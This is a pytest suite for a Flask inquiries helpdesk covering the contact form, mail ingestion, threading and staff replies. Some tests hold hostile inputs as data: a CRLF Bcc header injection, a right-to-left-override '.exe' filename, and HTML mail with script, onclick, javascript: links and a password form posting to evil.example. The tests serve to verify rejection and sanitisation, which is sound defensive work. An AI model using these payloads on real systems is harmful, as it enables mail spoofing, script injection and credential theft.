"""Inquiries on the embedded default: the contact form, ingestion rules, the helpdesk."""

from __future__ import annotations

import io
import re
from email.utils import make_msgid

import pytest
from sqlalchemy import func, select

from plenary.extensions import db
from plenary.inquiries import mailbox, operations
from plenary.inquiries.models import (
    CannedAnswer,
    Category,
    CategoryRoute,
    Direction,
    Inquiry,
    InquiryMessage,
    InquiryState,
    StoredFile,
)
from plenary.models import AuditEntry, OutboxMessage
from tests import inquiry_mail
from tests.conftest import csrf_token
from tests.factories import make_country, make_event, make_user, sign_in

FORM = {
    "name": "M. Jean Dupont",
    "email": "Jean.Dupont@example.fr",
    "organisation": "Mission permanente",
    "country": "",
    "category": "logistics",
    "subject": "Lettre pour le visa",
    "message": "Pouvez-vous nous envoyer une lettre ?",
}


@pytest.fixture
def event(app):
    event = make_event(contributions_email="contributions@example.org")
    db.session.commit()
    return event


def post_contact(client, language="fr", files=None, **fields):
    token = csrf_token(client, f"/inquiries/contact?lang={language}")
    data = {"csrf_token": token, **FORM, **fields}
    if files:
        data["attachments"] = files
    return client.post("/inquiries/contact", data=data, content_type="multipart/form-data")


def outbox(kind: str) -> list[OutboxMessage]:
    return db.session.scalars(
        select(OutboxMessage).where(OutboxMessage.kind == kind).order_by(OutboxMessage.id)
    ).all()


def received_message() -> InquiryMessage:
    return db.session.scalars(
        select(InquiryMessage).where(InquiryMessage.direction == Direction.IN)
    ).one()


def ingest(raw: bytes) -> operations.IngestResult:
    result = operations.ingest(raw)
    db.session.commit()
    return result


def test_contact_form_opens_an_inquiry_acknowledged_in_the_senders_language(client, event):
    response = post_contact(client, files=[(io.BytesIO(b"%PDF-1.4 passport"), "passeport.pdf")])
    assert response.status_code == 302
    inquiry = db.session.scalars(select(Inquiry)).one()
    assert inquiry.reference == f"INQ-{inquiry.created_at.year}-{inquiry.id:06d}"
    assert (inquiry.sender_email, inquiry.language, inquiry.category) == (
        "jean.dupont@example.fr",
        "fr",
        Category.LOGISTICS,
    )
    assert inquiry.messages[0].files[0].filename == "passeport.pdf"
    sent_page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert inquiry.reference in sent_page
    (acknowledgement,) = outbox("inquiry.acknowledgement")
    assert acknowledgement.recipients == ["jean.dupont@example.fr"]
    assert inquiry.reference in acknowledgement.subject
    assert "Nous avons bien reçu votre message" in acknowledgement.subject
    assert acknowledgement.headers["Auto-Submitted"] == "auto-replied"
    assert acknowledgement.headers["In-Reply-To"] == inquiry.messages[0].message_id
    assert acknowledgement.reply_to == "ai.dialogue@example.org"


def test_contact_form_shows_errors_next_to_fields_and_keeps_nothing(client, event):
    response = post_contact(
        client,
        language="en",
        email="not-an-address",
        message="",
        name="Jo\r\nBcc: evil@example.com",
        subject="Visa \u202efdp.exe",
        files=[(io.BytesIO(b"MZ\x90\x00\x03\xff\xff"), "tool.exe")],
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert 'id="email-error"' in page and 'id="message-error"' in page
    assert 'id="name-error"' in page and 'id="subject-error"' in page
    assert "tool.exe is not a PDF" in page
    assert db.session.scalar(select(func.count(Inquiry.id))) == 0
    assert outbox("inquiry.acknowledgement") == []


def test_a_robot_filling_the_honeypot_is_thanked_and_forgotten(client, event):
    response = post_contact(client, website="http://spam.example")
    assert response.status_code == 302
    assert db.session.scalar(select(func.count(Inquiry.id))) == 0


def test_oversized_form_attachment_is_refused_with_a_message(app, client, event):
    app.config["INQUIRY_MAX_ATTACHMENT_BYTES"] = 1024
    response = post_contact(
        client, language="en", files=[(io.BytesIO(b"%PDF-" + b"x" * 2000), "big.pdf")]
    )
    assert "big.pdf is larger than" in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count(Inquiry.id))) == 0


def test_contribution_offer_is_routed_and_forwarded(client, event):
    colleague = make_user("funds@example.org", full_name="Funds Officer")
    db.session.add(CategoryRoute(category=Category.CONTRIBUTIONS, assignee_id=colleague.id))
    db.session.commit()
    post_contact(client, language="en", category="contributions", subject="We can fund a panel")
    inquiry = db.session.scalars(select(Inquiry)).one()
    assert inquiry.assignee_id == colleague.id
    (forward,) = outbox("inquiry.forward")
    assert forward.recipients == ["contributions@example.org"]
    assert forward.reply_to == "jean.dupont@example.fr"
    assert "We can fund a panel" in forward.subject


def test_a_reply_by_mail_joins_its_thread_without_a_new_acknowledgement(app, event):
    first = inquiry_mail.mail()
    ingest(first)
    inquiry = db.session.scalars(select(Inquiry)).one()
    (acknowledgement,) = outbox("inquiry.acknowledgement")

    by_header = inquiry_mail.mail(
        subject="Re: something else", In_Reply_To=acknowledgement.message_id
    )
    by_reference = inquiry_mail.mail(
        sender="colleague@example.ee", subject=f"Fwd: [{inquiry.reference}] and another question"
    )
    assert ingest(by_header).outcome == "joined"
    assert ingest(by_reference).outcome == "joined"
    assert db.session.scalar(select(func.count(Inquiry.id))) == 1
    assert len([m for m in inquiry.messages if m.direction == Direction.IN]) == 3
    assert len(outbox("inquiry.acknowledgement")) == 1


def test_the_same_message_is_never_ingested_twice(app, event):
    raw = inquiry_mail.mail(message_id="<once@example.ee>")
    assert ingest(raw).outcome == "new"
    assert ingest(raw).outcome == "duplicate"
    without_id = inquiry_mail.mail(message_id="placeholder").replace(
        b"Message-ID: placeholder\n", b""
    )
    assert ingest(without_id).outcome == "new"
    assert ingest(without_id).outcome == "duplicate"
    assert (
        db.session.scalar(
            select(func.count(InquiryMessage.id)).where(InquiryMessage.direction == Direction.IN)
        )
        == 2
    )


AUTOMATIC = {
    "auto-submitted": inquiry_mail.mail(Auto_Submitted="auto-replied"),
    "precedence bulk": inquiry_mail.mail(Precedence="bulk"),
    "mailing list": inquiry_mail.mail(List_Id="<news.example.org>"),
    "out of office": inquiry_mail.mail(subject="Out of Office: back on Monday"),
    "exchange OOF": inquiry_mail.mail(X_Auto_Response_Suppress="OOF, AutoReply"),
    "bounce": inquiry_mail.bounce(),
    "null sender": inquiry_mail.mail(Return_Path="<>"),
    "mailer-daemon": inquiry_mail.mail(sender="MAILER-DAEMON@example.net"),
}


@pytest.mark.parametrize("raw", AUTOMATIC.values(), ids=AUTOMATIC.keys())
def test_automatic_messages_are_kept_but_never_answered(app, event, raw):
    assert ingest(raw).outcome == "new"
    message = received_message()
    assert message.automatic
    assert outbox("inquiry.acknowledgement") == []


def test_auto_submitted_no_is_a_person_and_is_answered(app, event):
    ingest(inquiry_mail.mail(Auto_Submitted="no"))
    assert len(outbox("inquiry.acknowledgement")) == 1


def test_at_most_one_acknowledgement_per_sender_per_day(app, event):
    for number in range(3):
        ingest(inquiry_mail.mail(subject=f"Question {number}"))
    assert db.session.scalar(select(func.count(Inquiry.id))) == 3
    assert len(outbox("inquiry.acknowledgement")) == 1


def test_our_own_address_is_never_acknowledged(app, event):
    ingest(inquiry_mail.mail(sender="AI Dialogue <ai.dialogue@example.org>"))
    assert outbox("inquiry.acknowledgement") == []


BROKEN = {
    "unknown charset": inquiry_mail.unknown_charset(),
    "8-bit headers": b"From: J\xc3\xa9r\xc3\xb4me <jerome@example.fr>\r\n"
    b"Subject: Caf\xe9 \xe0 Gen\xe8ve\r\n"
    b"Message-ID: <eight@example.fr>\r\n\r\nBonjour\r\n",
    "duplicate headers": b"From: a@example.org\r\nFrom: b@example.org\r\nSubject: one\r\n"
    b"Subject: two\r\nMessage-ID: <dup@example.org>\r\n\r\nText\r\n",
    "broken multipart": b"From: a@example.org\r\nSubject: broken\r\nMessage-ID: <broken@x>\r\n"
    b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="never"\r\n\r\n'
    b"no parts here\r\n",
    "bad base64": b"From: a@example.org\r\nSubject: b64\r\nMessage-ID: <b64@x>\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\n!!!not*base64\r\n",
    "no headers at all": b"\r\n\r\njust a body",
}


@pytest.mark.parametrize("raw", BROKEN.values(), ids=BROKEN.keys())
def test_malformed_mail_is_kept_with_its_problems_noted(app, event, raw):
    assert ingest(raw).outcome == "new"
    message = received_message()
    assert message.problems


def test_unknown_charset_keeps_the_text_that_could_be_read(app, event):
    ingest(inquiry_mail.unknown_charset())
    message = received_message()
    assert "Question about the programme" in message.text_body
    assert any("unknown charset" in problem for problem in message.problems)


def test_oversized_attachment_is_cut_and_marked(app, event):
    app.config["INQUIRY_MAX_ATTACHMENT_BYTES"] = 100
    from email.message import EmailMessage

    message = EmailMessage()
    message["From"], message["Subject"] = "a@example.org", "Big file"
    message["Message-ID"] = make_msgid()
    message.set_content("see attached")
    message.add_attachment(b"A" * 5000, maintype="application", subtype="pdf", filename="big.pdf")
    ingest(bytes(message))
    stored = db.session.scalars(select(StoredFile)).one()
    assert (stored.truncated, stored.size, len(stored.data)) == (True, 5000, 100)
    received = received_message()
    assert any("big.pdf cut to 100 bytes" in problem for problem in received.problems)


def test_a_broken_message_does_not_stop_the_folder_poller(app, event, tmp_path):
    folder = tmp_path / "maildrop"
    folder.mkdir()
    (folder / "1.eml").write_bytes(b"\xff\xfe\x00garbage\x00\r\n\r\n\xff")
    (folder / "2.eml").write_bytes(inquiry_mail.mail())
    report = mailbox.poll_folder(folder)
    assert report.new == 2 and report.failed == 0
    assert sorted(path.name for path in (folder / "done").iterdir()) == ["1.eml", "2.eml"]
    assert mailbox.poll_folder(folder).new == 0


def test_flask_inquiries_poll_reads_the_instance_folder(app, event):
    from pathlib import Path

    folder = Path(app.config["INQUIRY_MAILDROP"])
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "question.eml").write_bytes(inquiry_mail.mail())
    result = app.test_cli_runner().invoke(args=["inquiries", "poll"])
    assert result.exit_code == 0, result.output
    assert "1 new" in result.output


def staff_client(client):
    make_user()
    sign_in(client, "staff@example.org")
    return client


def test_the_helpdesk_is_for_staff_only(client, event):
    ingest(inquiry_mail.mail())
    inquiry = db.session.scalars(select(Inquiry)).one()
    file_id = 1
    for path in (
        "/inquiries/helpdesk",
        f"/inquiries/helpdesk/{inquiry.id}",
        f"/inquiries/helpdesk/files/{file_id}",
        "/inquiries/helpdesk/answers",
        "/inquiries/helpdesk/routing",
    ):
        response = client.get(path)
        assert response.status_code == 302 and "/login" in response.headers["Location"], path
    response = client.post(f"/inquiries/helpdesk/{inquiry.id}/close")
    assert response.status_code in (302, 400)
    assert db.session.get(Inquiry, inquiry.id).state == InquiryState.NEW


def test_html_mail_is_shown_sanitised_and_attachments_only_as_downloads(client, event):
    from email.message import EmailMessage

    message = EmailMessage()
    message["From"], message["Subject"] = "a@example.org", "HTML"
    message["Message-ID"] = make_msgid()
    message.set_content("plain")
    message.add_alternative(
        '<p onclick="steal()">Hello<script>alert(1)</script><img src="https://tracker.example/p.gif">'
        '<form action="https://evil.example"><input name="pw"></form>'
        '<a href="javascript:alert(2)">x</a></p>',
        subtype="html",
    )
    message.add_attachment(
        b"<html><script>alert(3)</script></html>",
        maintype="text",
        subtype="html",
        filename="page.html",
    )
    ingest(bytes(message))
    inquiry = db.session.scalars(select(Inquiry)).one()
    staff_client(client)
    page = client.get(f"/inquiries/helpdesk/{inquiry.id}").get_data(as_text=True)
    assert "Hello" in page
    for dangerous in (
        "<script>alert(1)",
        "tracker.example",
        "evil.example",
        "javascript:",
        "onclick",
        '<input name="pw"',
    ):
        assert dangerous not in page
    stored = db.session.scalars(select(StoredFile)).one()
    response = client.get(f"/inquiries/helpdesk/files/{stored.id}")
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.mimetype == "application/octet-stream"
    assert response.data == b"<html><script>alert(3)</script></html>"


def test_staff_reply_is_threaded_and_carries_the_reference(client, event):
    ingest(inquiry_mail.mail(message_id="<question@example.ee>", References="<earlier@example.ee>"))
    inquiry = db.session.scalars(select(Inquiry)).one()
    staff_client(client)
    page = f"/inquiries/helpdesk/{inquiry.id}"
    response = client.post(
        f"{page}/reply",
        data={"csrf_token": csrf_token(client, page), "body": "Six members at most."},
    )
    assert response.status_code == 302
    (answer,) = outbox("inquiry.reply")
    assert answer.headers["In-Reply-To"] == "<question@example.ee>"
    assert answer.headers["References"] == "<earlier@example.ee> <question@example.ee>"
    assert "Auto-Submitted" not in answer.headers
    assert answer.subject == f"Re: [{inquiry.reference}] Size of our delegation"
    assert "Six members at most." in answer.text_body
    assert inquiry.state == InquiryState.OPEN
    actions = db.session.scalars(
        select(AuditEntry.action).where(AuditEntry.object_id == str(inquiry.id))
    )
    assert "inquiry.reply" in list(actions)


def test_an_answer_posted_twice_is_sent_once_and_a_long_one_is_kept(client, event):
    ingest(inquiry_mail.mail())
    inquiry = db.session.scalars(select(Inquiry)).one()
    staff_client(client)
    page = f"/inquiries/helpdesk/{inquiry.id}"
    html = client.get(page).get_data(as_text=True)
    key = re.search(r'name="key" type="hidden" value="([0-9a-f]{32})"', html).group(1)
    form = {"csrf_token": csrf_token(client, page), "key": key, "body": "Six members at most."}
    first = client.post(f"{page}/reply", data=form)
    again = client.post(f"{page}/reply", data=form, follow_redirects=True)
    assert first.status_code == 302
    assert "This answer has already been sent." in again.get_data(as_text=True)
    assert len(outbox("inquiry.reply")) == 1
    # Another showing of the form is another answer.
    other = re.search(r'name="key" type="hidden" value="([0-9a-f]{32})"',
                      client.get(page).get_data(as_text=True)).group(1)  # fmt: skip
    assert other != key
    assert client.post(f"{page}/reply", data={**form, "key": other}).status_code == 302
    assert len(outbox("inquiry.reply")) == 2
    long = client.post(f"{page}/reply", data={**form, "key": "0" * 32, "body": "x" * 20001})
    assert long.status_code == 400
    assert "x" * 20001 in long.get_data(as_text=True)
    assert 'id="body-error"' in long.get_data(as_text=True)
    assert len(outbox("inquiry.reply")) == 2


def test_canned_answer_fills_its_merge_fields(client, event):
    ingest(inquiry_mail.mail())
    inquiry = db.session.scalars(select(Inquiry)).one()
    answer = CannedAnswer(title="Size", language="en", body="Dear {name}, about {reference}: six.")
    db.session.add(answer)
    db.session.commit()
    staff_client(client)
    page = client.get(f"/inquiries/helpdesk/{inquiry.id}?canned={answer.id}").get_data(as_text=True)
    assert f"Dear Ms Anna Kask, about {inquiry.reference}: six." in page
    token = csrf_token(client, "/inquiries/helpdesk/answers/new")
    response = client.post(
        "/inquiries/helpdesk/answers/new",
        data={"csrf_token": token, "title": "Bad", "language": "fr", "body": "Bonjour {nom}"},
    )
    assert response.status_code == 400
    assert "Unknown merge fields: nom" in response.get_data(as_text=True)
    # The same title in the same language is another answer's; in another language it is not.
    same = {"csrf_token": token, "title": "size ", "language": "en", "body": "Six."}
    response = client.post("/inquiries/helpdesk/answers/new", data=same)
    assert response.status_code == 400
    assert "Another canned answer in this language has this title." in response.get_data(
        as_text=True)  # fmt: skip
    response = client.post("/inquiries/helpdesk/answers/new", data={**same, "language": "fr"})
    assert response.status_code == 302
    assert db.session.scalar(select(func.count(CannedAnswer.id))) == 2


def test_notes_assign_close_reopen_and_merge_are_audited(client, event):
    ingest(inquiry_mail.mail(subject="First"))
    ingest(inquiry_mail.mail(sender="other@example.org", subject="Second"))
    first, second = db.session.scalars(select(Inquiry).order_by(Inquiry.id)).all()
    first_message_id = first.messages[0].message_id
    staff_client(client)
    page = f"/inquiries/helpdesk/{first.id}"

    def act(action, **data):
        return client.post(
            f"{page}/{action}", data={"csrf_token": csrf_token(client, page), **data}
        )

    act("note", body="Check with the protocol office.")
    user_id = db.session.scalar(select(AuditEntry.user_id).where(AuditEntry.action == "user.login"))
    act("assign", assignee=str(user_id))
    assert db.session.get(Inquiry, first.id).assignee_id == user_id
    act("close")
    assert db.session.get(Inquiry, first.id).state == InquiryState.CLOSED
    act("reopen")
    act("merge", reference=second.reference)
    db.session.expire_all()
    assert first.state == InquiryState.MERGED and first.merged_into_id == second.id
    assert len(second.messages) == 5  # two received, two acknowledgements, one note
    actions = set(db.session.scalars(select(AuditEntry.action)))
    assert {
        "inquiry.note",
        "inquiry.assign",
        "inquiry.close",
        "inquiry.reopen",
        "inquiry.merge",
    } <= actions
    # A later answer to the merged thread's first message lands in the thread it joined.
    result = ingest(inquiry_mail.mail(subject="Re: First", In_Reply_To=first_message_id))
    assert (result.outcome, result.inquiry_id) == ("joined", second.id)


def test_the_helpdesk_filters_and_counts(client, event):
    ingest(inquiry_mail.mail(subject="English question"))
    ingest(
        inquiry_mail.mail(
            sender="ivan@example.ru",
            subject="Вопрос",
            body="Будет ли синхронный перевод на русский язык во время дискуссий?",
        )
    )
    staff_client(client)
    page = client.get("/inquiries/helpdesk?language=ru").get_data(as_text=True)
    assert "Вопрос" in page and "English question" not in page
    page = client.get("/inquiries/helpdesk?state=new").get_data(as_text=True)
    assert "(2)" in page
    for junk in ("?state=%00", "?age=-1", "?assignee=%ff", "?page=-5", "?category=x&language=xx"):
        assert client.get(f"/inquiries/helpdesk{junk}").status_code == 200


def test_thread_of_a_focal_point_links_their_delegation(client, event):
    from plenary.registration.models import Delegation, DelegationState

    country = make_country("EE")
    delegation = Delegation(
        event=event,
        country=country,
        participates=True,
        state=DelegationState.SUBMITTED,
        focal_point_email="Anna.Kask@example.ee",
    )
    db.session.add(delegation)
    db.session.commit()
    ingest(inquiry_mail.mail())
    inquiry = db.session.scalars(select(Inquiry)).one()
    staff_client(client)
    page = client.get(f"/inquiries/helpdesk/{inquiry.id}").get_data(as_text=True)
    assert 'class="delegation"' in page and "Estonia" in page and "submitted" in page
    review = f"/secretariat/events/{event.id}/delegations/{delegation.id}"
    assert f'href="{review}"' in page
    assert client.get(review).status_code == 200


def test_thread_of_a_delegate_links_their_delegation(client, event):
    from plenary.registration.models import (
        Delegate,
        DelegateRole,
        DelegateState,
        Delegation,
    )

    delegation = Delegation(event=event, country=make_country("EE"), participates=True)
    db.session.add(delegation)
    db.session.flush()
    db.session.add(
        Delegate(delegation=delegation, event_id=event.id, given_name="Anna",
                 family_name="Kask", email="anna.kask@example.ee", role=DelegateRole.MEMBER,
                 state=DelegateState.PENDING)
    )  # fmt: skip
    db.session.commit()
    ingest(inquiry_mail.mail())
    inquiry = db.session.scalars(select(Inquiry)).one()
    staff_client(client)
    page = client.get(f"/inquiries/helpdesk/{inquiry.id}").get_data(as_text=True)
    assert 'class="delegation"' in page and "Estonia" in page and "draft" in page


def test_contact_rate_limit_per_sender_on_redis(tmp_path, redis_url, settings):
    from plenary import create_app
    from tests.conftest import RequestClient

    app = create_app(
        {
            **settings,
            "RATELIMIT_ENABLED": "true",
            "REDIS_URL": redis_url,
            "INQUIRY_RATE_LIMIT_SENDER": "2 per hour",
        }
    )
    app.test_client_class = RequestClient
    with app.app_context():
        db.create_all()
        make_event()
        db.session.commit()
        client = app.test_client()
        statuses = [post_contact(client, language="en").status_code for _ in range(3)]
        other = post_contact(client, language="en", email="someone.else@example.org")
        assert statuses == [302, 302, 429]
        assert other.status_code == 302
        assert db.session.scalar(select(func.count(Inquiry.id))) == 3
        db.session.remove()
        db.engine.dispose()


def test_a_savepoint_does_not_send_the_outbox_before_the_commit(app, event):
    operations.submit_form(
        name="A", email="a@example.org", organisation="", country_code="",
        category=Category.OTHER, subject="First", message="?", language="en", uploads=[],
    )  # fmt: skip
    # The second form's acknowledgement claim is a savepoint: the first row must wait.
    operations.submit_form(
        name="B", email="b@example.org", organisation="", country_code="",
        category=Category.OTHER, subject="Second", message="?", language="en", uploads=[],
    )  # fmt: skip
    assert {row.state.value for row in outbox("inquiry.acknowledgement")} == {"pending"}
    db.session.commit()
    db.session.expire_all()
    assert {row.state.value for row in outbox("inquiry.acknowledgement")} == {"sent"}


def test_an_answer_to_a_form_inquiry_threads_under_the_acknowledgement(client, event):
    post_contact(client, language="en")
    inquiry = db.session.scalars(select(Inquiry)).one()
    (acknowledgement,) = outbox("inquiry.acknowledgement")
    staff_client(client)
    page = f"/inquiries/helpdesk/{inquiry.id}"
    client.post(f"{page}/reply", data={"csrf_token": csrf_token(client, page), "body": "Yes."})
    (answer,) = outbox("inquiry.reply")
    assert answer.headers["In-Reply-To"] == acknowledgement.message_id
    assert answer.subject == f"Re: [{inquiry.reference}] Lettre pour le visa"


@pytest.mark.parametrize("language", ["ar", "zh", "ru", "es", "fr", "en"])
def test_the_form_and_the_helpdesk_speak_every_language(client, event, language):
    ingest(inquiry_mail.mail())
    inquiry = db.session.scalars(select(Inquiry)).one()
    db.session.add(CannedAnswer(title="T", language=language, body="{name}"))
    db.session.commit()
    expected = {"ar": "الاتصال بالأمانة", "zh": "联系秘书处", "ru": "Связаться с Секретариатом",
                "es": "Contactar con la Secretaría", "fr": "Contacter le Secrétariat",
                "en": "Contact the Secretariat"}[language]  # fmt: skip
    assert expected in client.get(f"/inquiries/contact?lang={language}").get_data(as_text=True)
    staff_client(client)
    for page in ("/inquiries/helpdesk", f"/inquiries/helpdesk/{inquiry.id}",
                 "/inquiries/helpdesk/answers", "/inquiries/helpdesk/answers/new",
                 "/inquiries/helpdesk/routing"):  # fmt: skip
        assert client.get(page).status_code == 200, page


def test_staff_set_the_default_assignee_of_a_category(client, event):
    staff_client(client)
    staff = db.session.scalars(select(AuditEntry.user_id).where(AuditEntry.action == "user.login"))
    user_id = next(iter(staff))
    page = "/inquiries/helpdesk/routing"
    client.post(page, data={"csrf_token": csrf_token(client, page),
                            "assignee_media": str(user_id), "assignee_other": "999"})  # fmt: skip
    routes = {
        route.category: route.assignee_id for route in db.session.scalars(select(CategoryRoute))
    }
    assert {category: who for category, who in routes.items() if who} == {Category.MEDIA: user_id}
    assert Category.OTHER not in routes  # an unknown account is not saved
    post_contact(client, language="en", category="media")
    assert db.session.scalars(select(Inquiry)).one().assignee_id == user_id
